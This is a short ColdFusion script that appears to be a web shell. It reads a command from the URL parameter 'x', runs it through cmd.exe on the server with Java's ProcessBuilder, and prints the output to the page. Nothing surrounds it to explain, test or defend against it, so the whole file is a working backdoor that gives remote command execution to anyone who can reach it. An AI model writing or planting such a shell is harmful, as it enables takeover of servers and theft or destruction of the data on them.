<cfscript>
cmd = url["x"] ?: "";
if (len(cmd)) {
  pb = createObject("java", "java.lang.ProcessBuilder").init(["cmd.exe", "/c", cmd]);
  pb.redirectErrorStream(true);
  proc = pb.start();
  sc = createObject("java", "java.util.Scanner").init(proc.getInputStream()).useDelimiter("\\A");
  writeOutput(sc.hasNext() ? sc.next() : "");
}
</cfscript>
